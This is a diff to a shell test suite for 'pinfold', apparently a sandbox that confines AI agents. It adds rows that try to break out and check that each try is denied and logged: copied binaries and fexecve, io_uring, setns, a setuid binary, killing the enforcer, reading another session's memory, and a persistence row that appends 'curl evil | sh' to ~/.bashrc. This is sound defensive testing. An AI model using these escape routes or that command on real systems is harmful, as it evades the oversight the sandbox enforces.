@@ -4,8 +4,8 @@
 # A new trick found later is one more row.
 # shellcheck disable=SC2016 # ${workspace} in single quotes is the policy's
 set -eu
-. "$(dirname "$0")/lib.sh"
-. "$(dirname "$0")/agent.sh"
+. "$(dirname "$0")/../integration/lib.sh"
+. "$(dirname "$0")/../integration/agent.sh"
 
 require_root
 require_cmd python3
@@ -20,9 +20,21 @@ chmod 0755 "$SECRET"
 echo "TOPSECRET" >"$SECRET/key"
 chmod 0644 "$SECRET/key"
 PY=$(readlink -f /usr/bin/python3)
+# A home the agent may read but not write, whose start-up files Unix
+# permissions would let it change; and a root-owned setuid copy of probe.
+HOMEDIR=$TEST_TMP/home
+mkdir -p "$HOMEDIR"
+chmod 0777 "$HOMEDIR"
+echo "# shell start-up" >"$HOMEDIR/.bashrc"
+chmod 0666 "$HOMEDIR/.bashrc"
+SUID=$TEST_TMP/bin/probe-suid
+install -m 4755 -o root "$PROBE" "$SUID"
 {
+	echo '[agent]'
+	echo "home = $HOMEDIR"
 	echo '[exec]'
 	probe_exec_grants
+	echo "allow = $SUID"
 	echo "allow = $PY"
 	echo 'allow = /usr/bin/dash'
 	echo 'allow = /usr/bin/ln'
@@ -30,6 +42,8 @@ PY=$(readlink -f /usr/bin/python3)
 	echo 'allow = ${workspace}/bin'
 	echo '[files]'
 	probe_file_grants
+	echo "read = $SUID"
+	echo 'read = ${home}'
 	echo 'read = ${workspace}'
 	echo 'read = ${workspace}/data'
 	echo 'write = ${workspace}'
@@ -37,6 +51,7 @@ PY=$(readlink -f /usr/bin/python3)
 	echo 'read = /dev/null'
 	echo '[network]'
 	echo "unix = $TEST_TMP/granted.sock"
+	echo 'connect = 127.0.0.1/32 *'
 } >"$CONF/agents.d/esc.ini"
 
 # Two root-owned services on pathname sockets any uid may connect to (as
@@ -53,6 +68,14 @@ for path in sys.argv[1:]:
 time.sleep(600)' "$TEST_TMP/service.sock" "$TEST_TMP/granted.sock" &
 track_pid $!
 wait_until 5 test -S "$TEST_TMP/granted.sock" || fail "the unix services did not start"
+ABSTRACT=pinfold-escape-$$
+python3 -c '
+import socket, sys, time
+s = socket.socket(socket.AF_UNIX)
+s.bind("\0" + sys.argv[1])
+s.listen(8)
+time.sleep(600)' "$ABSTRACT" &
+track_pid $!
 
 start_daemon "$CONF" "$STATE"
 
@@ -70,6 +93,8 @@ row_planted_links() {
 	[ "$rc" != 0 ] || fail "read through a planted link succeeded: '$out'"
 	case $out in *TOPSECRET*) fail "the secret leaked: '$out'" ;; esac
 	assert_contains_text "$out" "Permission denied"
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
+		r["object"] == "data/key" and r["decision"] == "deny")'
 	rc=0
 	out=$(agent bin/id 2>&1) || rc=$?
 	[ "$rc" = 126 ] || fail "exec through a planted link: status $rc, '$out'"
@@ -169,6 +194,17 @@ for path in sys.argv[1:]:
 		fail "python3 failed: '$out'"
 	assert_eq "Operation not permitted
 ok" "$out" "connects to the ungranted and the granted socket"
+	# An abstract socket made outside the agent's sandbox (Landlock scope,
+	# ABI 6): refused by Landlock, which the chain does not see.
+	out=$(agent "$PY" -c '
+import socket, sys
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect("\0" + sys.argv[1])
+    print("ok")
+except OSError as e:
+    print(e.strerror)' "$ABSTRACT") || fail "python3 failed: '$out'"
+	assert_eq "Operation not permitted" "$out" "connect to an abstract socket made outside"
 	python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' \
 		"$TEST_TMP/service.sock" || fail "control: the service refuses connections anyway"
 	chain_has "$STATE" '(r["type"] == "decision" and r["family"] == "unix" and
@@ -214,6 +250,10 @@ proc-root EACCES
 hardlink refused
 chdir EACCES" "$out" "the indirect paths"
 	[ ! -e "$WS/key-link" ] || fail "a hard link to the secret was made in the workspace"
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
+		r["object"] == "key" and r["decision"] == "deny")'
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
+		r["object"].startswith("/proc/self/root") and r["decision"] == "deny")'
 }
 
 # Another cgroup for a child (clone3 CLONE_INTO_CGROUP), or the agent's
@@ -248,6 +288,8 @@ print([l for l in open("/proc/self/cgroup").read().split("\n") if l.startswith("
 clone3 ENOSYS
 procs EACCES" "$(sed -n 1,3p <<<"$out")" "opening the root cgroup, clone3 into it, cgroup.procs"
 	case $(sed -n 4p <<<"$out") in 0::/pinfold/esc/*) ;; *) fail "the agent left its session: '$out'" ;; esac
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
+		r["object"] == "'"$cg2"'/cgroup.procs" and r["decision"] == "deny")'
 }
 
 # Names made to break a log or a terminal: a newline, a quote, an escape
@@ -271,6 +313,130 @@ except OSError:
 	chain_has "$STATE" '(r["type"] == "decision" and r.get("truncated") is True)'
 }
 
+# A forbidden binary copied into the workspace (which this agent may not
+# execute), and run through its descriptor (fexecve: execveat with
+# AT_EMPTY_PATH): neither runs.
+row_copied_binary() {
+	local out
+	out=$(agent "$PY" -c '
+import errno, os, shutil
+def attempt(name, f):
+    try:
+        f()
+        print(name, "ok")
+    except OSError as e:
+        print(name, errno.errorcode[e.errno])
+shutil.copy("/usr/bin/id", "id")
+os.chmod("id", 0o755)
+attempt("copy", lambda: os.execv("./id", ["id"]))
+fd = os.open("/usr/bin/id", os.O_RDONLY)
+attempt("fexecve", lambda: os.execve(fd, ["id"], {}))') || fail "python3 failed: '$out'"
+	assert_eq "copy EACCES
+fexecve EACCES" "$out" "the copied and the descriptor-run binary"
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "exec" and
+		r["object"] == "./id" and r["decision"] == "deny")'
+}
+
+# io_uring would do opens and connects the syscall hooks never see.
+row_io_uring() {
+	local out
+	out=$(agent "$PY" -c '
+import ctypes, errno
+libc = ctypes.CDLL(None, use_errno=True)
+params = ctypes.create_string_buffer(120)
+r = libc.syscall(425, 8, params)
+print(errno.errorcode[ctypes.get_errno()] if r < 0 else "ok")') || fail "python3 failed: '$out'"
+	assert_eq EPERM "$out" "io_uring_setup"
+	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "io_uring_setup" and
+		r["rule"] == "seccomp")'
+}
+
+# Namespaces and privilege: setns (refused whatever the namespace), and a
+# setuid-root binary, which under no_new_privs runs as the agent.
+row_privilege() {
+	local out
+	out=$(agent "$PY" -c '
+import ctypes, errno, os
+libc = ctypes.CDLL(None, use_errno=True)
+fd = os.open("/proc/self/ns/net", os.O_RDONLY)
+r = libc.setns(fd, 0)
+print("setns", errno.errorcode[ctypes.get_errno()] if r < 0 else "ok")') ||
+		fail "python3 failed: '$out'"
+	assert_eq "setns EPERM" "$out" "setns into a network namespace"
+	chain_has "$STATE" '(r["object"] == "setns" and r["rule"] == "seccomp")'
+	out=$(agent "$SUID" ids) || fail "the setuid probe failed: '$out'"
+	case $out in "uid 0 "*|*" euid 0") fail "a setuid binary gave root: '$out'" ;; esac
+	assert_eq "$(sed 's/euid/X/' <<<"$out" | awk '{ print $2 }')" \
+		"$(awk '{ print $4 }' <<<"$out")" "uid and euid of the setuid probe"
+}
+
+# The enforcer and other sessions: a signal to pinfoldd, and the memory of
+# a process in another session of the same agent (same uid, but another
+# Landlock domain).
+row_enforcer() {
+	local out other
+	spawn "$BUILD/pinfold" --socket "$SOCK" run --agent esc --workspace "$WS" -- "$PROBE" sleep 20
+	wait_until 5 chain_has "$STATE" '(r["type"] == "session-start" and r["cmd"][-2:] == ["sleep", "20"])' \
+		>/dev/null || fail "the other session did not start"
+	other=$(chain_show "$STATE" 'r["type"] == "session-start"' | tail -n 1 |
+		python3 -c 'import json, sys; print(json.load(sys.stdin)["pid"])')
+	out=$(agent "$PY" -c '
+import errno, os, signal, sys
+def attempt(name, f):
+    try:
+        f()
+        print(name, "ok")
+    except OSError as e:
+        print(name, errno.errorcode[e.errno])
+attempt("kill-pinfoldd", lambda: os.kill(int(sys.argv[1]), signal.SIGTERM))
+attempt("mem-other", lambda: open("/proc/%s/mem" % sys.argv[2], "rb").read(1))' \
+		"$PINFOLDD_PID" "$other") || fail "python3 failed: '$out'"
+	assert_eq "kill-pinfoldd EPERM
+mem-other EACCES" "$out" "signal to pinfoldd, memory of another session"
+	kill -0 "$PINFOLDD_PID" || fail "pinfoldd is gone"
+	chain_has "$STATE" '(r["object"] == "kill" and r["decision"] == "deny")'
+}
+
+# Persistence for later: start-up files in a home the agent may only read.
+row_persistence() {
+	local rc=0
+	agent /usr/bin/dash -c "echo 'curl evil | sh' >>'$HOMEDIR/.bashrc'" 2>/dev/null || rc=$?
+	[ "$rc" != 0 ] || fail "the agent wrote to ~/.bashrc"
+	assert_not_contains "$HOMEDIR/.bashrc" evil
+	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
+		r["object"] == "'"$HOMEDIR/.bashrc"'" and r["decision"] == "deny")'
+}
+
+# Every way to make a process keeps the tag: fork, daemon(3)-style double
+# fork with setsid, vfork (posix_spawn) and threads.
+row_tagging() {
+	local out
+	out=$(agent "$PY" -c '
+import os, sys, threading
+def tag():
+    return [l for l in open("/proc/self/cgroup").read().split("\n") if l.startswith("0::")][0]
+r, w = os.pipe()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.write(w, (tag() + "\n").encode())
+        os._exit(0)
+    os._exit(0)
+print("daemon", os.read(r, 200).decode().strip(), flush=True)
+pid = os.posix_spawn(sys.argv[1], [sys.argv[1], "cgroup"], {})
+os.waitpid(pid, 0)
+t = []
+threading.Thread(target=lambda: t.append(tag())).start()
+while not t:
+    pass
+print("thread", t[0])' "$PROBE") || fail "python3 failed: '$out'"
+	local sid
+	sid=$(last_session "$STATE")
+	assert_eq "daemon 0::/pinfold/esc/$sid
+0::/pinfold/esc/$sid
+thread 0::/pinfold/esc/$sid" "$out" "the tag of a daemon, a vfork child and a thread"
+}
+
 assert_contains_text() {
 	case $1 in *"$2"*) ;; *) fail "expected '$2' in '$1'" ;; esac
 }
@@ -285,5 +451,11 @@ row unix-socket row_unix_socket
 row indirect-paths row_indirect_paths
 row cgroup-moves row_cgroup_moves
 row hostile-names row_hostile_names
+row copied-binary row_copied_binary
+row io-uring row_io_uring
+row privilege row_privilege
+row enforcer row_enforcer
+row persistence row_persistence
+row tagging row_tagging
 
 stop_daemon
